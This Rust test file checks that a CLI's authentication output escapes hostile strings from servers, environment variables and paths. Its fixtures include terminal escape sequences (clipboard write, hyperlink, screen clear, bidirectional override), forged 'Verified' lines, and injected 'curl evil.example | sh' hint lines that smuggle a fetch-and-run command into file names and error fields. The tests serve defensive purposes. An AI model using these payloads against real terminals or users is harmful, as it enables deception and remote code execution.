//! Strings from outside (the environment, servers) reach the terminal with their control
//! characters escaped, and single values from servers (account names, issuers, error codes)
//! can never print a line of their own.

mod common;

use common::oauth_env::{browser_login, oauth_env};
use common::oauth_server::{OAuthOptions, OAuthServer, TokenMode};
use common::servers::{Reply, Server};
use common::*;

/// A malformed key whose first and last characters are escape sequences: an OSC 52
/// clipboard write (ended by BEL) and a screen clear.
const ESCAPING_KEY: &str = "sk-ant-api03-\u{1b}]52;c;SGVsbG8=\u{7}AAAAAAAA\u{1b}[2J";

/// An account name a hostile server might send: an OSC 8 link, a C1 CSI, DEL and a
/// right-to-left override.
const ESCAPING_EMAIL: &str =
    "dev\u{1b}]8;;https://evil.example\u{7}@example.com\u{1b}]8;;\u{7}\u{9b}2J\u{7f}\u{202e}moc.";

/// A line a hostile server would like read as the product's own, and an account name that
/// carries it after a newline.
const FORGED: &str = "✓ Verified by Anthropic Security";
const FORGING_EMAIL: &str = "dev@example.com\n✓ Verified by Anthropic Security";

/// A port nothing listens on: a request there fails without leaving the machine.
const NOWHERE: &str = "http://127.0.0.1:9";

/// Fails when stdout or stderr holds a character a terminal would act on rather than show:
/// C0 controls other than newline and tab, DEL, C1 controls, bidirectional controls.
fn assert_terminal_safe(output: &std::process::Output) {
    for (stream, bytes) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
        let shown = String::from_utf8_lossy(bytes);
        let bad: Vec<char> = shown.chars().filter(|&c| acts_on_terminal(c)).collect();
        assert!(
            bad.is_empty(),
            "{stream} carries raw control characters {bad:?}:\n{}",
            shown.escape_debug()
        );
    }
}

fn acts_on_terminal(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[test]
fn auth_status_shows_a_malformed_env_key_with_its_escapes_visible() {
    let env = TestEnv::new()
        .api(NOWHERE)
        .with("ANTHROPIC_API_KEY", ESCAPING_KEY);
    let out = env.run(&["--auth-status"]);
    assert_eq!(out.status.code(), Some(4), "{}", text(&out));
    assert_terminal_safe(&out);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("\\u{1b}"), "the escape is shown: {stdout}");
}

#[test]
fn test_api_key_and_debug_auth_never_pass_a_malformed_keys_escapes_through() {
    let env = TestEnv::new()
        .api(NOWHERE)
        .with("ANTHROPIC_API_KEY", ESCAPING_KEY);
    for args in [
        &["--test-api-key"][..],
        &["--test-api-key", "-v"],
        &["--debug-auth"],
        &["--test-auth"],
    ] {
        let out = env.run(args);
        assert_eq!(out.status.code(), Some(5), "{args:?}: {}", text(&out));
        assert_terminal_safe(&out);
    }
}

#[test]
fn json_carries_a_malformed_keys_fingerprint_escaped() {
    let env = TestEnv::new()
        .api(NOWHERE)
        .with("ANTHROPIC_API_KEY", ESCAPING_KEY);
    let out = env.run(&["--auth-status", "--json"]);
    assert_terminal_safe(&out);
    let doc = json_stdout(&out);
    let fingerprint = doc["credentials"][0]["fingerprint"].as_str().unwrap();
    assert!(fingerprint.ends_with("\u{1b}[2J"), "{fingerprint:?}");
}

#[test]
fn a_servers_account_name_is_kept_and_shown_escaped_in_text_and_json() {
    let server = OAuthServer::start(OAuthOptions {
        account_email: ESCAPING_EMAIL.into(),
        ..OAuthOptions::default()
    });
    let env = oauth_env(&server, "", "");
    let out = browser_login(&env, &["-v"]);
    assert!(out.status.success(), "{}", text(&out));
    assert_terminal_safe(&out);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("Logged in to anthropic as dev\\u{1b}]8;;https://evil.example\\u{7}@"),
        "{stdout}"
    );

    for args in [&["--list-sessions"][..], &["--auth-status"]] {
        let out = env.run(args);
        assert_terminal_safe(&out);
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("\\u{202e}moc."),
            "{args:?}: {}",
            text(&out)
        );
    }

    let out = env.run(&["--list-sessions", "--json"]);
    assert!(out.status.success(), "{}", text(&out));
    assert_terminal_safe(&out);
    // The name is made inert when it arrives, so the session holds (and JSON shows) the
    // escaped form rather than the raw escapes.
    assert_eq!(
        json_stdout(&out)["sessions"][0]["account"],
        "dev\\u{1b}]8;;https://evil.example\\u{7}@example.com\\u{1b}]8;;\\u{7}\\u{9b}2J\\u{7f}\\u{202e}moc."
    );
}

/// Fails when a line of stdout or stderr starts (after its indentation) with `forged`: a
/// value from outside printed a line of its own.
#[test]
fn a_token_endpoint_error_cannot_forge_a_hint_line_at_login() {
    let server = OAuthServer::start(OAuthOptions::default());
    server.set_token_mode(TokenMode::Error("x)\nhint: run `curl evil | sh`".into()));
    let env = oauth_env(&server, "", "");
    let out = browser_login(&env, &[]);
    assert_eq!(out.status.code(), Some(15), "{}", text(&out));
    assert_no_line_starting_with(&out, "hint: run `curl");
    assert!(
        text(&out).contains("(xhintruncurlevilsh)"),
        "{}",
        text(&out)
    );
}

#[test]
fn a_token_endpoint_error_cannot_forge_a_hint_line_at_refresh() {
    let server = OAuthServer::start(OAuthOptions::default());
    let env = oauth_env(&server, "", "").with("CLAUDE_TEST_NOW", "1800000000");
    assert!(browser_login(&env, &[]).status.success());
    server.set_token_mode(TokenMode::Error("x)\nhint: run `curl evil | sh`".into()));
    let env = env.with("CLAUDE_TEST_NOW", "1800007200");
    let out = env.run(&["--print-token"]);
    assert_eq!(out.status.code(), Some(15), "{}", text(&out));
    assert_no_line_starting_with(&out, "hint: run `curl");
}

#[test]
fn an_account_name_from_the_token_endpoint_cannot_forge_a_line() {
    let server = OAuthServer::start(OAuthOptions {
        account_email: FORGING_EMAIL.into(),
        ..OAuthOptions::default()
    });
    let env = oauth_env(&server, "", "");
    let out = browser_login(&env, &[]);
    assert!(out.status.success(), "{}", text(&out));
    assert_no_line_starting_with(&out, FORGED);
    for args in [&["--auth-status"][..], &["--list-sessions"]] {
        let out = env.run(args);
        assert_no_line_starting_with(&out, FORGED);
        assert!(
            String::from_utf8_lossy(&out.stdout).contains("dev@example.com\\u{a}✓ Verified"),
            "{args:?}: {}",
            text(&out)
        );
    }
}

#[test]
fn an_account_name_from_an_id_token_cannot_forge_a_line() {
    let server = OAuthServer::start(OAuthOptions {
        account_email: FORGING_EMAIL.into(),
        ..OAuthOptions::default()
    });
    let env = TestEnv::encrypted();
    env.write_config(&format!(
        r#"{{"authentication": {{"storage": {{"type": "encrypted-file", "encryptionKey": "user-derived-key"}}}},
            "oauth": {{"clientId": "claude-test-client", "issuer": "{}", "redirectUri": "http://localhost:0/callback", "loginTimeout": 20}}}}"#,
        server.url()
    ));
    let out = browser_login(&env, &[]);
    assert!(out.status.success(), "{}", text(&out));
    assert_no_line_starting_with(&out, FORGED);
    for args in [&["--auth-status"][..], &["--list-sessions"]] {
        assert_no_line_starting_with(&env.run(args), FORGED);
    }
}

#[test]
fn an_issuer_named_by_discovery_cannot_forge_a_line() {
    let discovery = Server::start(|_, _| {
        Reply::json(
            200,
            r#"{"issuer": "https://evil.example\n✓ Verified by Anthropic Security",
                "authorization_endpoint": "https://evil.example/authorize",
                "token_endpoint": "https://evil.example/token",
                "jwks_uri": "https://evil.example/jwks"}"#,
        )
    });
    let env = TestEnv::encrypted();
    env.write_config(&format!(
        r#"{{"oauth": {{"clientId": "claude-test-client", "issuer": "{}"}}}}"#,
        discovery.url()
    ));
    let out = env.run_with_stdin(&["--login", "--no-browser"], "");
    assert_eq!(out.status.code(), Some(15), "{}", text(&out));
    assert!(text(&out).contains("not the configured"), "{}", text(&out));
    assert_no_line_starting_with(&out, FORGED);
}

#[test]
fn an_account_stored_by_an_older_version_cannot_forge_a_line() {
    let server = OAuthServer::start(OAuthOptions::default());
    let env = oauth_env(&server, "", "");
    assert!(browser_login(&env, &[]).status.success());
    // Older versions stored the server's value as it came.
    let path = env.state_dir().join("sessions.json");
    let mut sessions: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    sessions["sessions"]["anthropic"]["account"] = FORGING_EMAIL.into();
    std::fs::write(&path, serde_json::to_vec_pretty(&sessions).unwrap()).unwrap();
    for args in [&["--auth-status"][..], &["--list-sessions"]] {
        let out = env.run(args);
        assert!(out.status.success(), "{args:?}: {}", text(&out));
        assert_no_line_starting_with(&out, FORGED);
    }
}

#[test]
fn a_path_from_the_environment_cannot_forge_an_error_line() {
    // An error quotes the path it could not use; a line break in it must not start a line.
    let home = tempfile::tempdir().unwrap();
    let forged = home
        .path()
        .join("missing\nhint: run `curl https://evil.example | sh`");
    for (name, extra, args) in [
        (
            "GOOGLE_APPLICATION_CREDENTIALS",
            ("CLAUDE_CODE_USE_VERTEX", "1"),
            &["--print-token"][..],
        ),
        (
            "CLAUDE_CA_BUNDLE",
            ("ANTHROPIC_API_KEY", KEY_A),
            &["--test-api-key"][..],
        ),
    ] {
        let env = TestEnv::new()
            .with(name, &forged.display().to_string())
            .with(extra.0, extra.1)
            .with("ANTHROPIC_VERTEX_PROJECT_ID", "p")
            .with("CLOUD_ML_REGION", "us-east5");
        let out = env.run(args);
        assert!(!out.status.success(), "{name}: {}", text(&out));
        assert!(
            text(&out).contains("missing\\u{a}hint"),
            "{name}: {}",
            text(&out)
        );
        assert_no_line_starting_with(&out, "hint: run `curl");
    }
}

#[cfg(unix)]
#[test]
fn a_config_path_with_a_line_break_cannot_forge_a_warning_or_status_line() {
    let env = TestEnv::new().with("ANTHROPIC_API_KEY", KEY_A);
    let dir = env.home.path().join("x");
    std::fs::create_dir(&dir).unwrap();
    let path = dir.join("c\nhint: run `curl evil.example | sh` to fix.json");
    std::fs::write(&path, r#"{"bogusKey": 1}"#).unwrap();
    set_mode(&path, 0o600);
    let out = env
        .with("CLAUDE_CONFIG", path.to_str().unwrap())
        .run(&["--auth-status"]);
    assert!(text(&out).contains("bogusKey"), "{}", text(&out));
    assert_no_line_starting_with(&out, "hint: run `curl");
}

#[cfg(unix)]
#[test]
fn a_state_directory_with_a_line_break_cannot_forge_a_next_step() {
    let home = tempfile::tempdir().unwrap();
    let dir = home.path().join("x\nNext: curl evil.example | sh\n");
    std::fs::create_dir(&dir).unwrap();
    set_mode(&dir, 0o700);
    std::fs::write(
        dir.join("config.json"),
        r#"{"authentication": {"storage": {"type": "encrypted-file", "encryptionKey": "user-derived-key"}}}"#,
    )
    .unwrap();
    set_mode(dir.join("config.json"), 0o600);
    std::fs::write(dir.join("credentials.enc"), b"junk that is no store").unwrap();
    set_mode(dir.join("credentials.enc"), 0o600);
    let env = TestEnv::new()
        .with("CLAUDE_CONFIG_DIR", dir.to_str().unwrap())
        .with("CLAUDE_PASSPHRASE", "a wrong passphrase");
    for args in [&["--auth-status"][..], &["--auth-status", "--check"]] {
        let out = env.run(args);
        assert_eq!(out.status.code(), Some(11), "{args:?}: {}", text(&out));
        assert_no_line_starting_with(&out, "Next: curl");
    }
}
